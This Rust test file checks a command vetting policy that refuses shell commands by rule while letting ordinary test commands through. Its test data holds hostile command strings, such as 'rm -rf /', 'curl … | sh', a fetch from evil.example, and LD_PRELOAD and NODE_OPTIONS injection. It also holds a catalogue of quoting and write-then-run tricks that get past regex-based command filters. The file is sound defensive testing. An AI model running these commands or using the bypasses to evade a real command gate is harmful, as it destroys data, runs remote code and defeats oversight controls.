//! Check-mode vetting: every refusal rule, every known bypass, and the lookalikes that
//! must still pass.

use policy::check_mode::{vet, vet_with, CheckModeOptions, Refusal, Repo, SimpleCommand};
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

/// A repository described by its files and its installed node binaries.
struct FakeRepo {
    files: BTreeSet<PathBuf>,
    bins: BTreeSet<String>,
}

impl Repo for FakeRepo {
    fn path_exists(&self, path: &Path) -> bool {
        self.files.iter().any(|f| f == path || f.starts_with(path))
    }
    fn has_local_bin(&self, name: &str) -> bool {
        self.bins.contains(name)
    }
}

fn repo() -> FakeRepo {
    FakeRepo {
        files: [
            "scripts/test.sh",
            "scripts/gen.js",
            "tools/check.py",
            "test/run.js",
            "Makefile",
        ]
        .iter()
        .map(PathBuf::from)
        .collect(),
        bins: ["eslint", "jest"].iter().map(|s| s.to_string()).collect(),
    }
}

fn opts() -> CheckModeOptions {
    CheckModeOptions::new("/repo")
}

fn check(command: &str) -> Result<Vec<SimpleCommand>, Refusal> {
    vet_with(command, &opts(), &repo())
}

fn argv(command: &str) -> Vec<Vec<String>> {
    match check(command) {
        Ok(cmds) => cmds.into_iter().map(|c| c.argv).collect(),
        Err(r) => panic!("`{command}` was refused: {r}"),
    }
}

/// Assert a refusal with this rule, naming `offending`, and with a suggestion.
fn refused(command: &str, rule: &str, offending: &str) -> Refusal {
    match check(command) {
        Ok(cmds) => panic!("`{command}` was accepted as {cmds:?}; expected {rule}"),
        Err(r) => {
            assert_eq!(r.rule, rule, "`{command}`: {r}");
            assert!(
                r.offending.contains(offending),
                "`{command}`: offending `{}` lacks `{offending}`",
                r.offending
            );
            assert!(!r.suggestion.is_empty(), "`{command}` has no suggestion");
            assert!(!r.reason.is_empty());
            r
        }
    }
}

#[test]
fn lookalikes_that_must_pass() {
    assert_eq!(
        argv("cargo test --quiet"),
        vec![vec!["cargo", "test", "--quiet"]]
    );
    assert_eq!(argv("npm test"), vec![vec!["npm", "test"]]);
    assert_eq!(argv("node --test"), vec![vec!["node", "--test"]]);
    assert_eq!(
        argv("python -m pytest -q"),
        vec![vec!["python", "-m", "pytest", "-q"]]
    );
    assert_eq!(argv("go test ./..."), vec![vec!["go", "test", "./..."]]);
    assert_eq!(
        argv("cargo fmt --check && cargo clippy -- -D warnings"),
        vec![
            vec!["cargo", "fmt", "--check"],
            vec!["cargo", "clippy", "--", "-D", "warnings"]
        ]
    );
    assert_eq!(argv("make test"), vec![vec!["make", "test"]]);
    assert_eq!(argv("make V=1 test"), vec![vec!["make", "V=1", "test"]]);
    assert_eq!(argv("./gradlew test"), vec![vec!["./gradlew", "test"]]);
    assert_eq!(
        argv("bundle exec rspec"),
        vec![vec!["bundle", "exec", "rspec"]]
    );
    assert_eq!(argv("npx eslint ."), vec![vec!["npx", "eslint", "."]]);
    assert_eq!(
        argv("python -m pytest -c pytest.ini"),
        vec![vec!["python", "-m", "pytest", "-c", "pytest.ini"]]
    );
    assert_eq!(
        argv("ruby -Ilib test/run.js"),
        vec![vec!["ruby", "-Ilib", "test/run.js"]]
    );
    assert_eq!(argv("node test/run.js"), vec![vec!["node", "test/run.js"]]);
    assert_eq!(
        argv("node -- test/run.js -p 3000"),
        vec![vec!["node", "--", "test/run.js", "-p", "3000"]]
    );
    assert_eq!(
        argv("python tools/check.py"),
        vec![vec!["python", "tools/check.py"]]
    );
}

#[test]
fn env_assignments_are_kept_apart_from_argv() {
    let cmds = check("FOO=1 RUST_LOG='debug x' cargo test").unwrap();
    assert_eq!(
        cmds[0].env,
        vec![
            ("FOO".into(), "1".into()),
            ("RUST_LOG".into(), "debug x".into())
        ]
    );
    assert_eq!(cmds[0].argv, vec!["cargo", "test"]);
    assert_eq!(cmds[0].display(), "FOO=1 RUST_LOG='debug x' cargo test");
}

#[test]
fn quoted_args_with_spaces_stay_one_word() {
    assert_eq!(
        argv("cargo test -- --skip 'slow test' \"other one\" a\\ b"),
        vec![vec![
            "cargo",
            "test",
            "--",
            "--skip",
            "slow test",
            "other one",
            "a b"
        ]]
    );
    // Quoted shell syntax is just text for the program.
    assert_eq!(
        argv("cargo test 'a|b;c&&d $(x) `y` *'"),
        vec![vec!["cargo", "test", "a|b;c&&d $(x) `y` *"]]
    );
    assert_eq!(
        argv("cargo test 'line1\nline2'"),
        vec![vec!["cargo", "test", "line1\nline2"]]
    );
}

#[test]
fn scripts_inside_the_repo_are_the_safe_form() {
    assert_eq!(
        argv("./scripts/test.sh --fast"),
        vec![vec!["./scripts/test.sh", "--fast"]]
    );
    assert_eq!(argv("scripts/test.sh"), vec![vec!["scripts/test.sh"]]);
    assert_eq!(
        argv("/repo/scripts/test.sh"),
        vec![vec!["/repo/scripts/test.sh"]]
    );
    let r = refused("./scripts/missing.sh", "check.path", "./scripts/missing.sh");
    assert!(r.reason.contains("does not exist"), "{}", r.reason);
    let r = refused("/usr/local/bin/thing", "check.path", "/usr/local/bin/thing");
    assert!(r.reason.contains("outside the repository"));
    refused("../other/scripts/test.sh", "check.path", "../other");
    refused("./scripts/../../x.sh", "check.path", "x.sh");
    refused("python /tmp/evil.py", "check.path", "/tmp/evil.py");
    refused("node ../evil.js", "check.path", "../evil.js");
    refused("make -f /tmp/Makefile test", "check.path", "/tmp/Makefile");
    refused("node https://evil.example/x.js", "check.remote", "https://");
}

#[test]
fn operators_other_than_and_are_refused() {
    refused("cargo test | tee out", "check.pipe", "|");
    refused("cargo test |& cat", "check.pipe", "|");
    refused("cargo test; rm -rf /", "check.separator", ";");
    refused("cargo test || true", "check.or", "||");
    refused("cargo test & cargo build", "check.background", "&");
    refused("cargo test &", "check.background", "&");
}

#[test]
fn redirections_are_refused() {
    refused("cargo test > out.txt", "check.redirect", ">");
    refused("cargo test 2>&1", "check.redirect", ">&");
    refused("cargo test >> log", "check.redirect", ">>");
    refused("cargo test < input", "check.redirect", "<");
    refused("cargo test &> log", "check.redirect", "&>");
    refused(
        "python tools/check.py <<EOF\nx\nEOF",
        "check.redirect",
        "<<",
    );
    refused(
        "python tools/check.py <<< 'print(1)'",
        "check.redirect",
        "<<<",
    );
}

#[test]
fn substitutions_and_expansions_are_refused() {
    refused(
        "cargo test $(cat args)",
        "check.substitution",
        "$(cat args)",
    );
    refused("cargo test `cat args`", "check.substitution", "`cat args`");
    refused(
        "cargo test \"$(whoami)\"",
        "check.substitution",
        "$(whoami)",
    );
    refused("cargo test <(echo x)", "check.substitution", "<(");
    refused("cargo test >(cat)", "check.substitution", ">(");
    refused("cargo test $HOME", "check.expansion", "$HOME");
    refused("cargo test \"${X:-y}\"", "check.expansion", "${X:-y}");
    refused("cargo test $((1+2))", "check.expansion", "$((1+2))");
    refused("cargo test ~/x", "check.expansion", "~/x");
    refused("FOO=$BAR cargo test", "check.expansion", "$BAR");
    refused("$CARGO test", "check.expansion", "$CARGO");
}

#[test]
fn unquoted_globs_are_refused() {
    refused("pytest tests/*.py", "check.glob", "tests/*.py");
    refused("pytest test_?.py", "check.glob", "test_?.py");
    refused("pytest test_[ab].py", "check.glob", "test_[ab].py");
    refused("pytest {a,b}.py", "check.glob", "{a,b}.py");
    // Quoted or escaped patterns are plain text for the program.
    assert_eq!(
        argv("cargo test 'tests::*'"),
        vec![vec!["cargo", "test", "tests::*"]]
    );
    assert_eq!(
        argv("cargo test tests::\\*"),
        vec![vec!["cargo", "test", "tests::*"]]
    );
}

#[test]
fn control_flow_functions_and_subshells_are_refused() {
    refused("(cargo test)", "check.subshell", "(");
    refused("{ cargo test; }", "check.subshell", "{");
    refused("if true; then cargo test; fi", "check.control_flow", "if");
    refused(
        "for x in a; do cargo test; done",
        "check.control_flow",
        "for",
    );
    refused(
        "while true; do cargo test; done",
        "check.control_flow",
        "while",
    );
    refused(
        "until cargo test; do :; done",
        "check.control_flow",
        "until",
    );
    refused(
        "case x in x) cargo test;; esac",
        "check.control_flow",
        "case",
    );
    refused("[[ -f x ]] && cargo test", "check.control_flow", "[[");
    refused("((1)) && cargo test", "check.control_flow", "((");
    refused("f() { cargo test; }", "check.function", "f()");
    refused("! cargo test", "check.negation", "!");
    refused("time cargo test", "check.shape", "time");
}

#[test]
fn newlines_and_carriage_returns_outside_quotes_are_refused() {
    refused("cargo test\nrm -rf /", "check.newline", "\\n");
    refused("cargo test\r\nrm -rf /", "check.newline", "\\");
    refused("cargo test\rrm -rf /", "check.newline", "\\r");
    refused("cargo test &&\nnpm test", "check.newline", "\\n");
    // A trailing newline (a TOML multi-line string) hides nothing.
    assert_eq!(argv("cargo test\n"), vec![vec!["cargo", "test"]]);
}

#[test]
fn programs_outside_the_allowlist_and_shells_are_refused() {
    let r = refused("curl https://x | sh", "check.pipe", "|");
    assert!(r.suggestion.contains("script"));
    refused("rm -rf /", "check.program", "rm");
    refused("sh -c 'cargo test'", "check.shell", "sh");
    refused("bash scripts/test.sh", "check.shell", "bash");
    refused("/bin/bash -c x", "check.shell", "/bin/bash");
    refused("env cargo test", "check.wrapper", "env");
    refused("xargs cargo test", "check.wrapper", "xargs");
    refused("timeout 10 cargo test", "check.wrapper", "timeout");
    refused("eval cargo test", "check.wrapper", "eval");
    let r = refused("rm -rf target", "check.program", "rm");
    assert!(r.suggestion.contains("[gate] programs"), "{}", r.suggestion);
}

#[test]
fn extra_programs_extend_the_allowlist_but_never_with_shells() {
    let mut o = opts();
    o.extra_programs = vec!["rm".into(), "bash".into(), "env".into()];
    assert!(vet_with("rm -rf target", &o, &repo()).is_ok());
    assert_eq!(
        vet_with("bash -c x", &o, &repo()).unwrap_err().rule,
        "check.shell"
    );
    assert_eq!(
        vet_with("env x", &o, &repo()).unwrap_err().rule,
        "check.wrapper"
    );
    // Versioned interpreter names keep their interpreter's rules.
    o.extra_programs = vec!["node18".into(), "python3.12".into(), "ruby3.3".into()];
    for cmd in ["node18 -e x", "python3.12 -c x", "ruby3.3 -e x"] {
        assert_eq!(
            vet_with(cmd, &o, &repo()).unwrap_err().rule,
            "check.inline_code",
            "{cmd}"
        );
    }
}

#[test]
fn interpreter_inline_code_and_preload_flags_are_refused() {
    for (cmd, flag) in [
        ("node -e 'require(1)'", "-e"),
        ("node --eval 'x'", "--eval"),
        ("node --eval='x'", "--eval="),
        ("node -p 'x'", "-p"),
        ("node --print x", "--print"),
        ("node -r ./hook.js test/run.js", "-r"),
        ("node --require ./hook.js", "--require"),
        ("node --import ./hook.mjs", "--import"),
        ("node --loader ./l.mjs test/run.js", "--loader"),
        (
            "node --experimental-loader ./l.mjs",
            "--experimental-loader",
        ),
        ("node --env-file .env test/run.js", "--env-file"),
        (
            "node --openssl-config=/tmp/x.cnf test/run.js",
            "--openssl-config",
        ),
        (
            "node --experimental-config-file x.json",
            "--experimental-config-file",
        ),
        ("python -c 'import os'", "-c"),
        ("python3 -c 'import os'", "-c"),
        ("ruby -e 'system 1'", "-e"),
        ("ruby -rsocket test/run.js", "-rsocket"),
        ("perl -e 'print 1'", "-e"),
        ("perl -E 'say 1'", "-E"),
        ("perl -MPOSIX -e 1", "-MPOSIX"),
        ("php -r 'echo 1;'", "-r"),
        ("deno eval 'Deno.exit(0)'", "eval"),
        ("bun -e 'x'", "-e"),
        ("bun --eval 'x'", "--eval"),
        ("elixir -e 'IO.puts 1'", "-e"),
        ("mix run -e 'IO.puts 1'", "-e"),
        ("make --eval='x:=1' test", "--eval"),
        ("yarn node -e 'x'", "-e"),
    ] {
        refused(cmd, "check.inline_code", flag);
    }
}

#[test]
fn package_runner_escapes_are_refused() {
    refused("npx -c 'rm -rf /'", "check.package_runner", "-c");
    refused("npx --call 'x'", "check.package_runner", "--call");
    refused("npm exec -c 'x'", "check.package_runner", "-c");
    refused("npx -y cowsay", "check.package_runner", "-y");
    refused("npx --yes cowsay", "check.package_runner", "--yes");
    let r = refused("npx cowsay hi", "check.package_runner", "cowsay");
    assert!(r.reason.contains("node_modules/.bin"), "{}", r.reason);
    refused(
        "npx --package evil eslint",
        "check.package_runner",
        "--package",
    );
    refused("npm exec cowsay", "check.package_runner", "cowsay");
    refused(
        "npm explore lodash -- ls",
        "check.package_runner",
        "explore",
    );
    refused(
        "npm config set script-shell ./x",
        "check.package_runner",
        "set",
    );
    refused(
        "npm pkg set scripts.test='rm -rf /'",
        "check.package_runner",
        "set",
    );
    refused(
        "npm test --script-shell=./evil.sh",
        "check.package_runner",
        "--script-shell",
    );
    refused(
        "npm run x --script-shell ./evil.sh",
        "check.package_runner",
        "--script-shell",
    );
    refused("npm init evil", "check.package_runner", "init");
    refused("pnpm dlx cowsay", "check.package_runner", "dlx");
    refused("pnpm exec cowsay", "check.package_runner", "cowsay");
    refused("yarn dlx cowsay", "check.package_runner", "dlx");
    refused("yarn exec 'rm -rf /'", "check.package_runner", "exec");
    refused("bun x cowsay", "check.package_runner", "cowsay");
    refused(
        "go run example.com/evil@latest",
        "check.package_runner",
        "@latest",
    );
    refused("cargo install ripgrep", "check.package_runner", "install");
    // Locally installed binaries are fine through every runner.
    assert!(check("npx jest --ci").is_ok());
    assert!(check("npm exec eslint .").is_ok());
    assert!(check("pnpm exec eslint .").is_ok());
}

#[test]
fn flags_that_run_other_programs_are_refused() {
    refused(
        "cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"sh\"' test",
        "check.exec_flag",
        "--config",
    );
    refused(
        "cargo test --config=build.rustc-wrapper=x",
        "check.exec_flag",
        "--config",
    );
    refused(
        "go test -toolexec=./x ./...",
        "check.exec_flag",
        "-toolexec",
    );
    refused("go test -exec ./x ./...", "check.exec_flag", "-exec");
    refused("make SHELL=./evil.sh test", "check.exec_flag", "SHELL=");
    refused(
        "go env -w GOFLAGS=-toolexec=./x",
        "check.exec_flag",
        "env -w",
    );
    refused(
        "mvn exec:exec -Dexec.executable=sh",
        "check.exec_flag",
        "exec:exec",
    );
    refused("cmake -E env X=1 sh -c x", "check.exec_flag", "-E");
    refused("just --command 'sh -c x'", "check.exec_flag", "--command");
    refused("prove --exec 'sh -c' t/", "check.exec_flag", "--exec");
    refused("rustc -C linker=./x main.rs", "check.exec_flag", "linker=");
    refused("mix cmd rm -rf /", "check.exec_flag", "cmd");
    refused("bundle config set gemfile /tmp/G", "check.exec_flag", "set");
    refused("make -C /tmp/evil test", "check.path", "/tmp/evil");
    assert!(check("cargo test --config .cargo/ci.toml").is_ok());
    assert!(check("make -C sub test").is_ok());
    assert!(check("go env GOPATH").is_ok());
}

/// Runners that start whatever program they are given: the program they name is vetted.
#[test]
fn nested_commands_of_runners_are_vetted() {
    refused("bundle exec sh -c 'x'", "check.shell", "sh");
    refused("bundle exec rm -rf /", "check.program", "rm");
    refused("bundle exec ruby -e x", "check.inline_code", "-e");
    assert!(check("bundle exec rspec --fail-fast").is_ok());
    refused(
        "yarn workspace app exec 'rm -rf /'",
        "check.package_runner",
        "exec",
    );
    refused("yarn workspace app node -e x", "check.inline_code", "-e");
    refused(
        "pnpm --filter app exec cowsay",
        "check.package_runner",
        "cowsay",
    );
    refused("npm --prefix sub exec -c 'x'", "check.package_runner", "-c");
    refused(
        "npx --node-options='--require ./x.js' eslint",
        "check.package_runner",
        "--node-options",
    );
    refused(
        "npm test --userconfig ./evil.npmrc",
        "check.package_runner",
        "--userconfig",
    );
    refused("deno run npm:cowsay", "check.remote", "npm:cowsay");
    assert!(check("npm --prefix sub test").is_ok());
    assert!(check("yarn workspace app test").is_ok());
}

#[test]
fn dangerous_env_assignments_are_refused() {
    for (cmd, name) in [
        ("NODE_OPTIONS='--require ./x.js' npm test", "NODE_OPTIONS"),
        ("LD_PRELOAD=./x.so cargo test", "LD_PRELOAD"),
        ("LD_LIBRARY_PATH=. cargo test", "LD_LIBRARY_PATH"),
        ("BASH_ENV=./x make test", "BASH_ENV"),
        ("ENV=./x make test", "ENV"),
        ("PYTHONSTARTUP=x.py python -m pytest", "PYTHONSTARTUP"),
        ("GIT_CONFIG_GLOBAL=./x cargo test", "GIT_CONFIG_GLOBAL"),
        ("GIT_EXEC_PATH=./x cargo test", "GIT_EXEC_PATH"),
        ("PATH=./bin:/usr/bin cargo test", "PATH"),
        (
            "npm_config_script_shell=./x npm test",
            "npm_config_script_shell",
        ),
        ("RUSTC_WRAPPER=./x cargo test", "RUSTC_WRAPPER"),
        (
            "FOO=1 cargo test && PYTEST_ADDOPTS='-p evil' pytest",
            "PYTEST_ADDOPTS",
        ),
    ] {
        let r = refused(cmd, "check.env", name);
        assert!(r.reason.contains(name), "{}", r.reason);
    }
    refused("A+=x cargo test", "check.env", "A+=x");
}

/// The classic ways around prefix-and-regex filters. Each must be refused.
#[test]
fn known_bypasses_of_regex_filters_are_refused() {
    // Escaped quotes: `\"` is a literal quote, so `;` below is a real separator.
    refused("cargo test \\\"; rm -rf / \\\"", "check.separator", ";");
    refused("cargo test \\'; rm -rf / \\'", "check.separator", ";");
    // Mixed quote pairs that spell a flag.
    refused("node \"-\"'e' 'process.exit(0)'", "check.inline_code", "-e");
    refused("node '-'\"e\" x", "check.inline_code", "-e");
    refused("node -\\e x", "check.inline_code", "-e");
    refused("node $'-e' x", "check.inline_code", "-e");
    refused("node $'\\x2de' x", "check.inline_code", "-e");
    refused("'no'\"de\" -e x", "check.inline_code", "-e");
    refused("n\\ode -e x", "check.inline_code", "-e");
    // Quote pairs that look closed to a regex but open a new command.
    refused("cargo test '--x' ;'rm' -rf /", "check.separator", ";");
    // Embedded newlines outside quotes.
    refused("cargo test\nnode -e x", "check.newline", "\\n");
    refused("cargo test \\\n; rm x", "check.separator", ";");
    // Combined short flags.
    refused("node -pe 'process.exit(0)'", "check.inline_code", "-pe");
    refused("node -ep x", "check.inline_code", "-ep");
    refused("python -Bc 'x'", "check.inline_code", "-Bc");
    refused("python -Ic x", "check.inline_code", "-Ic");
    refused("ruby -we 'x'", "check.inline_code", "-we");
    refused("perl -lne 'x'", "check.inline_code", "-lne");
    // Flags before -e.
    refused("node --no-warnings -e x", "check.inline_code", "-e");
    refused("node --conditions dev -e x", "check.inline_code", "-e");
    refused(
        "node --stack-size=999 --eval x",
        "check.inline_code",
        "--eval",
    );
    refused("python -W ignore -c x", "check.inline_code", "-c");
    refused("python -X dev -c x", "check.inline_code", "-c");
    refused("ruby -I lib -e x", "check.inline_code", "-e");
    // Two allowed commands: the first writes a script, the second runs it.
    refused(
        "node scripts/gen.js scripts/test.sh && ./scripts/test.sh",
        "check.write_then_run",
        "./scripts/test.sh",
    );
    refused(
        "python tools/check.py --out=test/run.js && node test/run.js",
        "check.write_then_run",
        "test/run.js",
    );
    refused(
        "go build -o bin/ ./cmd && ./bin/tool",
        "check.write_then_run",
        "./bin/tool",
    );
    refused(
        "npm pkg set scripts.test='curl x | sh' && npm test",
        "check.package_runner",
        "set",
    );
    refused(
        "npm config set script-shell ./x && npm test",
        "check.package_runner",
        "set",
    );
    // A program name built from an expansion.
    refused("${X}node -e x", "check.expansion", "${X}");
}

#[test]
fn malformed_and_oversized_input_is_refused() {
    refused("", "check.empty", "");
    refused("   ", "check.empty", "");
    refused("# only a comment", "check.empty", "");
    refused("FOO=1", "check.shape", "FOO");
    refused("cargo test 'unterminated", "check.syntax", "");
    refused("cargo test &&", "check.syntax", "");
    let huge = format!("cargo test {}", "a".repeat(10 * 1024 * 1024));
    let r = check(&huge).unwrap_err();
    assert_eq!(r.rule, "check.too_long");
    let deep = format!("{}cargo test{}", "(".repeat(100_000), ")".repeat(100_000));
    let r = check(&deep).unwrap_err();
    assert!(
        r.rule == "check.too_deep" || r.rule == "check.too_long",
        "{r}"
    );
    let deep = format!("cargo test {}x{}", "\"$(".repeat(50), ")\"".repeat(50));
    assert_eq!(check(&deep).unwrap_err().rule, "check.too_deep");
    let keywords = format!("{}cargo test", "if a; then ".repeat(40));
    assert_eq!(check(&keywords).unwrap_err().rule, "check.too_deep");
}

#[test]
fn refusal_becomes_a_deny_decision() {
    let r = refused("cargo test | tee x", "check.pipe", "|");
    let d = r.to_decision("cargo test | tee x");
    assert_eq!(d.decision, policy::Verdict::Deny);
    assert_eq!(d.rule, "check.pipe");
    assert_eq!(d.commands, vec!["cargo test | tee x".to_string()]);
    assert!(d.suggestion.is_some());
    let json = serde_json::to_value(&d).unwrap();
    assert_eq!(json["decision"], "deny");
}

#[test]
fn vet_uses_the_real_repository_on_disk() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    std::fs::create_dir_all(root.join("scripts")).unwrap();
    std::fs::write(root.join("scripts/test.sh"), "#!/bin/sh\n").unwrap();
    std::fs::create_dir_all(root.join("node_modules/.bin")).unwrap();
    std::fs::write(root.join("node_modules/.bin/vitest"), "").unwrap();
    let o = CheckModeOptions::new(root);
    assert!(vet("./scripts/test.sh", &o).is_ok());
    assert_eq!(vet("./scripts/nope.sh", &o).unwrap_err().rule, "check.path");
    assert!(vet("npx vitest run", &o).is_ok());
    assert_eq!(
        vet("npx cowsay", &o).unwrap_err().rule,
        "check.package_runner"
    );
    // `..` resolves to node_modules itself: it is not an installed binary.
    assert_eq!(vet("npx ..", &o).unwrap_err().rule, "check.package_runner");
    let abs = root.join("scripts/test.sh");
    assert!(vet(&abs.to_string_lossy(), &o).is_ok());
}

mod never_panics {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

        #[test]
        fn vet_never_panics_on_arbitrary_strings(s in "\\PC{0,80}") {
            let _ = check(&s);
        }

        #[test]
        fn vet_never_panics_on_shell_soup(s in "[a-z $'\"`\\\\(){}\\[\\];&|<>*?~=\\n\\r#!-]{0,60}") {
            let _ = check(&s);
        }

        /// Whatever is accepted only holds static words and a non-empty program.
        #[test]
        fn accepted_commands_are_plain(s in "[a-z -]{1,30}( && [a-z -]{1,20})?") {
            if let Ok(cmds) = check(&format!("cargo {s}")) {
                for c in cmds {
                    prop_assert!(!c.argv.is_empty());
                    prop_assert!(!c.argv[0].is_empty());
                }
            }
        }
    }
}

#[test]
fn program_model_additions_are_refused_and_ordinary_checks_pass() {
    refused(
        "python3 -m timeit -s 'import os' pass",
        "check.inline_code",
        "-m timeit",
    );
    refused("python3 -mtimeit pass", "check.inline_code", "-m timeit");
    refused("make SHELL:=/bin/sh test", "check.exec_flag", "SHELL:=");
    refused("make 'SHELL+=-x' test", "check.exec_flag", "SHELL+=");
    refused("make --eval=x test", "check.inline_code", "--eval");
    refused("node", "check.inline_code", "node");
    refused("node -i", "check.inline_code", "-i");
    refused(
        "node --test-reporter=data:text/javascript,x --test",
        "check.inline_code",
        "--test-reporter",
    );
    refused(
        "node --test --test-reporter https://x.example/r.js",
        "check.inline_code",
        "--test-reporter",
    );
    refused(
        "cargo run --manifest-path /tmp/evil/Cargo.toml",
        "check.path",
        "/tmp/evil/Cargo.toml",
    );
    refused(
        "cargo test --manifest-path=../x/Cargo.toml",
        "check.path",
        "../x/Cargo.toml",
    );
    refused("npm install left-pad", "check.package_runner", "install");
    refused("npm i https://x.example/p.tgz", "check.package_runner", "i");
    refused("npm add @scope/pkg@1.0.0", "check.package_runner", "add");
    refused(
        "cargo test --config 'target.x86_64-unknown-linux-gnu.runner=\"sh\"'",
        "check.exec_flag",
        "--config",
    );
    refused(
        "cargo test --config build.rustflags=-Clinker=x",
        "check.exec_flag",
        "--config",
    );
    for ok in [
        "python3 -m pytest tests/ && python3 tools/check.py",
        "cargo test --config net.offline=true",
        "cargo test --config term.color=never",
        "node --test",
        "node test/run.js",
        "npm install",
        "npm ci",
        "make test",
        "cargo run --manifest-path Cargo.toml",
    ] {
        assert!(check(ok).is_ok(), "{ok}: {:?}", check(ok));
    }
}

#[test]
fn packages_pinned_by_the_lockfile_may_be_installed_and_linked_shells_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    std::fs::write(
        root.join("package-lock.json"),
        r#"{"packages": {"node_modules/left-pad": {"version": "1.3.0"}}}"#,
    )
    .unwrap();
    std::fs::create_dir(root.join("scripts")).unwrap();
    std::os::unix::fs::symlink("/bin/sh", root.join("scripts/run")).unwrap();
    std::fs::write(root.join("scripts/test.sh"), "#!/bin/sh\n").unwrap();
    let opts = CheckModeOptions::new(root);
    assert!(vet("npm install left-pad", &opts).is_ok());
    let r = vet("npm install is-odd", &opts).unwrap_err();
    assert_eq!(r.rule, "check.package_runner", "{r}");
    let r = vet("./scripts/run -c 'rm -rf /'", &opts).unwrap_err();
    assert_eq!(r.rule, "check.shell", "{r}");
    assert!(r.reason.contains("/bin/sh"), "{}", r.reason);
    assert!(vet("./scripts/test.sh", &opts).is_ok());
}
